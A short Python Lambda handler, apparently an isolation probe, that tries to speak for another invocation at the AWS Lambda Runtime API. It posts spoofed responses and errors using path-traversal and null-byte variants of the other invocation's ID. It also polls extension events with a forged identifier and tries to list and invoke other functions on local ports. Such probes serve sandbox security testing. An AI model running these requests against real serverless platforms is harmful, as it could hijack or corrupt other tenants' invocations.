"""Speaks for somebody else at the Runtime API: answers another invocation, asks for its events, ends it."""

import http.client
import os


def handler(event, context):
    taken = []

    def ask(api, method, path, body=None, headers=None):
        connection = http.client.HTTPConnection(api, timeout=0.5)
        try:
            connection.request(method, path, body, headers or {})
            answer = connection.getresponse()
            said = answer.read().decode()
            if answer.status < 300 or event["word"] in said:
                taken.append(f"{api} {path}: {answer.status}")
        except OSError:
            pass
        finally:
            connection.close()

    own = os.environ["AWS_LAMBDA_RUNTIME_API"]
    for api in (own, *(f"127.0.0.1:{port}" for port in event["ports"])):
        for id_ in (event["other_id"], "../" + event["other_id"], event["other_id"] + "%00", "*", ""):
            for end in ("response", "error"):
                ask(api, "POST", f"/2018-06-01/runtime/invocation/{id_}/{end}", '"spoofed"')
        headers = {"Lambda-Extension-Identifier": "00000000-0000-4000-8000-000000000000"}
        ask(api, "GET", "/2020-01-01/extension/event/next", headers=headers)
        ask(api, "GET", "/2015-03-31/functions")
        ask(api, "POST", "/2015-03-31/functions/other/invocations", "{}")
    return taken
